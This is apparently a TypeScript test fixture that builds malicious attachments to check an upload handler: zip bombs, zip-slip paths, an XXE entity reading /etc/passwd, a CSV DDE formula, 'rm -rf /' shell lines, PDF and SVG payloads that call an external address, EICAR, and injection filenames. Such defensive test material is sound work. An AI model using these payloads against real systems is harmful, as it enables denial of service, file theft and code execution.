/* Over 300 lines: a table of files and what makes them. */
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib'
import { A_DRAWING, A_PAGE, A_PDF, A_PNG, A_PROGRAM, A_TEXT, aPhotograph, EICAR } from '../support/files.ts'

/** What becomes of a file: it is refused, for a reason that says so, or it is taken as what it is and nothing more. */
export type Fate =
  | { readonly refused: RegExp }
  | {
      readonly taken: string
      /** The name under which it is given back. */
      readonly as?: string | RegExp
      readonly infected?: true
    }

export interface Attachment {
  readonly what: string
  readonly name: string
  readonly content: Buffer
  readonly fate: Fate
}

const MB = 1024 * 1024
const RUNS = { refused: /is a file that runs/ }
const NOT_TAKEN = { refused: /is of a kind that is not taken; send a/ }
const text = (words: string) => Buffer.from(words, 'utf8')
const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'

/** @param address - Where nobody must call. @param blownUp - Bytes to which the bombs would grow. */
export function attachments(address: string, blownUp: number): readonly Attachment[] {
  const zeros = deflateRawSync(Buffer.alloc(16 * MB), { level: 9 })
  const bomb = zip(Array.from({ length: Math.ceil(blownUp / (16 * MB)) }, (_, n) => packed(`${n}.txt`, zeros, 16 * MB)))
  const external = `<Relationships><Relationship Id="r1" Type="attachedTemplate" Target="http://${address}/evil.dotm" TargetMode="External"/></Relationships>`
  const taken = (type: string, as?: string | RegExp) => ({ taken: type, ...(as !== undefined && { as }) })
  const named = (name: string, as: string | RegExp, what = 'a name'): Attachment => ({
    what: `${what}: ${JSON.stringify(name.slice(0, 40))}`,
    name,
    content: A_PDF,
    fate: taken('application/pdf', as),
  })
  return [
    // How large.
    { what: 'nothing', name: 'a.pdf', content: Buffer.alloc(0), fate: { refused: /is empty/ } },
    { what: 'the most there may be', name: 'a.txt', content: Buffer.alloc(20 * MB, 65), fate: taken('text/plain') },
    {
      what: 'one byte more',
      name: 'a.txt',
      content: Buffer.alloc(20 * MB + 1, 65),
      fate: { refused: /larger than 20 MB|too large/ },
    },
    // Archives: never unpacked.
    { what: 'a bomb in an archive', name: 'a.zip', content: bomb, fate: taken('application/zip') },
    { what: 'an archive in archives', name: 'a.zip', content: nested(8, bomb), fate: taken('application/zip') },
    {
      what: 'an archive that says it holds 4 GB',
      name: 'a.zip',
      content: zip([packed('a.txt', zeros, 0xff_ff_ff_fe)]),
      fate: taken('application/zip'),
    },
    {
      what: 'an archive that overlaps itself',
      name: 'a.zip',
      content: Buffer.concat([zip([packed('a.txt', zeros, 16 * MB)]), zip([packed('b.txt', zeros, 16 * MB)])]),
      fate: taken('application/zip'),
    },
    {
      what: 'an archive with ways out',
      name: 'a.zip',
      content: zip([
        stored('../../../../tmp/zq', text('zq')),
        stored('/etc/zq', text('zq')),
        stored('C:\\zq', text('zq')),
      ]),
      fate: taken('application/zip'),
    },
    {
      what: 'a list of contents that blows up',
      name: 'a.docx',
      content: zip([packed('[Content_Types].xml', zeros, 16 * MB), stored('word/document.xml', text('<w/>'))]),
      fate: taken('application/zip', 'a.docx.zip'),
    },
    {
      what: 'a kind that blows up',
      name: 'a.odt',
      content: zip([packed('mimetype', zeros, 16 * MB)]),
      fate: taken('application/zip', 'a.odt.zip'),
    },
    { what: 'gzip of a bomb', name: 'a.gz', content: gzipSync(Buffer.alloc(64 * MB)), fate: NOT_TAKEN },
    {
      what: 'gzip of gzip of a bomb',
      name: 'a.tar.gz',
      content: gzipSync(gzipSync(Buffer.alloc(64 * MB))),
      fate: NOT_TAKEN,
    },
    { what: 'half an archive', name: 'a.zip', content: bomb.subarray(0, 100), fate: taken('application/zip') },
    // Documents that would do something.
    {
      what: 'a Word document with its template elsewhere',
      name: 'a.docx',
      content: word([stored('word/_rels/settings.xml.rels', text(external))]),
      fate: taken(DOCX),
    },
    {
      what: 'a Word document with a program in it',
      name: 'a.docm',
      content: word(
        [stored('word/vbaProject.bin', A_PROGRAM)],
        'application/vnd.ms-word.document.macroEnabled.main+xml',
      ),
      fate: RUNS,
    },
    {
      what: 'the same by another name',
      name: 'a.docx',
      content: word(
        [stored('word/vbaProject.bin', A_PROGRAM)],
        'application/vnd.ms-word.document.macroEnabled.main+xml',
      ),
      fate: NOT_TAKEN,
    },
    {
      what: 'a document with an entity of a file',
      name: 'a.xml',
      content: text('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
      fate: taken('text/plain'),
    },
    { what: 'a drawing with a script', name: 'a.svg', content: A_DRAWING, fate: taken('text/plain', 'a.svg') },
    {
      what: 'a drawing that calls',
      name: 'a.svg',
      content: text(`<svg xmlns="http://www.w3.org/2000/svg"><image href="http://${address}/x"/></svg>`),
      fate: taken('text/plain'),
    },
    { what: 'a page with a script', name: 'a.html', content: A_PAGE, fate: taken('text/plain', 'a.html') },
    {
      what: 'a page that says it is a picture',
      name: 'a.png',
      content: A_PAGE,
      fate: taken('text/plain', 'a.png.txt'),
    },
    {
      what: 'a letter by e-mail with a page in it',
      name: 'a.eml',
      content: text('MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>zq()</script>'),
      fate: taken('text/plain'),
    },
    {
      what: 'a table with formulas',
      name: 'a.csv',
      content: text("=cmd|'/C calc'!A0,+1\n"),
      fate: taken('text/plain'),
    },
    {
      what: 'a PDF with a script',
      name: 'a.pdf',
      content: text(
        `%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL('http://${address}'))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`,
      ),
      fate: taken('application/pdf'),
    },
    // Two kinds at once.
    {
      what: 'a PDF that is a page',
      name: 'a.pdf',
      content: Buffer.concat([A_PDF, A_PAGE]),
      fate: taken('application/pdf'),
    },
    { what: 'a PDF that is a script', name: 'a.js', content: text('%PDF-1.4\n/*\n*/=1;zq()'), fate: RUNS },
    {
      what: 'a picture that is a script',
      name: 'a.gif',
      content: text('GIF89a/*\0\0\0\0*/=1;zq()'),
      fate: taken('image/gif'),
    },
    {
      what: 'a picture that is an archive',
      name: 'a.png',
      content: Buffer.concat([A_PNG, zip([stored('a.txt', text('zq'))])]),
      fate: taken('image/png'),
    },
    { what: 'a picture by the name of a page', name: 'a.html', content: A_PNG, fate: taken('image/png', 'a.html.png') },
    {
      what: 'an archive that is a program of Java',
      name: 'a.zip',
      content: zip([stored('META-INF/MANIFEST.MF', text('Main-Class: Zq'))]),
      fate: NOT_TAKEN,
    },
    { what: 'a program', name: 'a.pdf', content: A_PROGRAM, fate: NOT_TAKEN },
    {
      what: 'a program of Linux',
      name: 'a',
      content: Buffer.from('\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0', 'latin1'),
      fate: NOT_TAKEN,
    },
    { what: 'lines for a shell', name: 'a.sh', content: text('#!/bin/sh\nrm -rf /\n'), fate: RUNS },
    {
      what: 'lines for a shell by another name',
      name: 'a.txt',
      content: text('#!/bin/sh\nrm -rf /\n'),
      fate: taken('text/plain'),
    },
    {
      what: 'a way to somewhere',
      name: 'a.url',
      content: text(`[InternetShortcut]\nURL=http://${address}/`),
      fate: RUNS,
    },
    // Pictures.
    {
      what: 'a picture of ten thousand million dots',
      name: 'a.png',
      content: hugePicture(100_000),
      fate: taken('image/png'),
    },
    {
      what: 'a photograph with the place where it was taken',
      name: 'a.jpg',
      content: aPhotograph('Zqplace'),
      fate: taken('image/jpeg'),
    },
    {
      what: 'a photograph whose details have no end',
      name: 'a.jpg',
      content: Buffer.concat([aPhotograph().subarray(0, 30), Buffer.alloc(10)]),
      fate: taken('image/jpeg'),
    },
    { what: 'a recording that leads its reader round', name: 'a.wma', content: roundAndRound(), fate: NOT_TAKEN },
    // Viruses.
    {
      what: 'what every scanner takes for a virus',
      name: 'a.txt',
      content: EICAR,
      fate: { taken: 'text/plain', infected: true },
    },
    {
      what: 'the same in an archive',
      name: 'a.zip',
      content: zip([stored('a.com', EICAR)]),
      fate: { taken: 'application/zip', infected: true },
    },
    // Text that is none.
    {
      what: 'text of two bytes a letter',
      name: 'a.txt',
      content: Buffer.from('\uFEFFa letter', 'utf16le'),
      fate: taken('text/plain', 'a.txt'),
    },
    { what: 'text with an end in it', name: 'a.txt', content: text('a\0b'), fate: NOT_TAKEN },
    { what: 'plain text', name: 'a.txt', content: A_TEXT, fate: taken('text/plain', 'a.txt') },
    // Names.
    named('../../../etc/passwd.pdf', 'passwd.pdf', 'a way'),
    named('..\\..\\windows\\win.pdf', 'win.pdf', 'a way'),
    named('/etc/passwd', 'passwd.pdf', 'a way'),
    named('C:\\zq.pdf', 'zq.pdf', 'a way'),
    named('\u202Efdp.exe.pdf', 'fdp.exe.pdf', 'turned round'),
    named('a\u202Egpj.pdf', 'agpj.pdf', 'turned round'),
    named('CON', /^(?!con(\.|$)).+\.pdf$/i, 'a device'),
    named('con.pdf', /^(?!con\.).+\.pdf$/i, 'a device'),
    named('LPT1.txt.pdf', /^(?!lpt1\.).+\.pdf$/i, 'a device'),
    named('NUL .pdf', /^(?!nul( |\.)).+\.pdf$/i, 'a device'),
    { what: 'a name with a stream in it that runs', name: 'a.pdf:hidden.exe', content: A_PDF, fate: RUNS },
    named('a.txt:hidden.pdf', 'a.txt-hidden.pdf', 'a stream'),
    named('x'.repeat(990) + '.pdf', /^x{116}\.pdf$/, 'long'),
    named('🧒🏽‍🦽'.repeat(100) + '.pdf', /^.{1,300}\.pdf$/u, 'long'),
    named('a"; filename="b.exe.pdf', 'a-; filename=-b.exe.pdf', 'a header'),
    named('a\r\nSet-Cookie: zq=1.pdf', /^[^\r\n]+\.pdf$/, 'a header'),
    named('%0d%0aSet-Cookie: zq=1.pdf', /^[^\r\n]+\.pdf$/, 'a header'),
    named('<img src=x onerror=zq()>.pdf', '-img src=x onerror=zq()-.pdf', 'a page'),
    named('{{7919*7907}}${7919*7907}.pdf', '{{7919-7907}}${7919-7907}.pdf', 'a template'),
    named('.pdf', 'pdf.pdf', 'nothing'),
    named('...', 'file.pdf', 'nothing'),
    named('  ', 'file.pdf', 'nothing'),
    named('-rf.pdf', '-rf.pdf', 'an option'),
    named('.htaccess', 'htaccess.pdf', 'hidden'),
    named('__proto__', '__proto__.pdf', 'inherited'),
    { what: 'a name that runs', name: 'a.pdf.exe', content: A_PDF, fate: RUNS },
    { what: 'a name that runs, with a space after', name: 'a.exe .', content: A_PDF, fate: RUNS },
    { what: 'a name that runs, with signs that show nothing', name: 'a.e\u200Bxe', content: A_PDF, fate: RUNS },
    { what: 'a name that runs, in large letters', name: 'A.SCR', content: A_PDF, fate: RUNS },
    {
      what: 'a name longer than names are',
      name: 'x'.repeat(1_001),
      content: A_PDF,
      fate: { refused: /1000|1,000|fileName/ },
    },
  ]
}

interface Entry {
  readonly name: string
  readonly method: 0 | 8
  readonly data: Buffer
  /** As it says it is, unpacked. */
  readonly size: number
}

const packed = (name: string, data: Buffer, size: number): Entry => ({ name, method: 8, data, size })
const stored = (name: string, data: Buffer): Entry => ({ name, method: 0, data, size: data.length })

/** An archive as it stands in a file (APPNOTE 4.3); its checksums are wrong, for nobody unpacks it. */
export function zip(entries: readonly Entry[]): Buffer {
  const parts: Buffer[] = []
  const listed: Buffer[] = []
  let at = 0
  for (const { name, method, data, size } of entries) {
    const fields = Buffer.alloc(26)
    fields.writeUInt16LE(20, 0)
    fields.writeUInt16LE(method, 4)
    fields.writeUInt32LE(data.length, 14)
    fields.writeUInt32LE(size, 18)
    fields.writeUInt16LE(Buffer.byteLength(name), 22)
    const place = Buffer.alloc(14)
    place.writeUInt32LE(at, 10)
    const local = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), fields, text(name), data])
    listed.push(Buffer.concat([Buffer.from('PK\x01\x02\x14\0', 'latin1'), fields, place, text(name)]))
    parts.push(local)
    at += local.length
  }
  const list = Buffer.concat(listed)
  const end = Buffer.alloc(18)
  end.writeUInt16LE(entries.length, 4)
  end.writeUInt16LE(entries.length, 6)
  end.writeUInt32LE(list.length, 8)
  end.writeUInt32LE(at, 12)
  return Buffer.concat([...parts, list, Buffer.from('PK\x05\x06', 'latin1'), end])
}

function nested(depth: number, inner: Buffer): Buffer {
  return depth === 0 ? inner : zip([stored('a.zip', nested(depth - 1, inner))])
}

function word(more: readonly Entry[], main = `${DOCX}.main+xml`): Buffer {
  const types = `<Types><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`
  return zip([stored('[Content_Types].xml', text(types)), stored('word/document.xml', text('<w/>')), ...more])
}

/** A picture that says it is so wide and so high. */
function hugePicture(dots: number): Buffer {
  const header = Buffer.from(A_PNG)
  // The first chunk follows eight signs, its length and its name.
  header.writeUInt32BE(dots, 16)
  header.writeUInt32BE(dots, 20)
  return Buffer.concat([header, deflateSync(Buffer.alloc(1_000))])
}

/** An ASF file whose part has the length of nothing, so that what reads it on and on never comes to an end. */
function roundAndRound(): Buffer {
  const head = Buffer.from('3026b2758e66cf11a6d900aa0062ce6c', 'hex')
  return Buffer.concat([head, Buffer.alloc(4_000)])
}
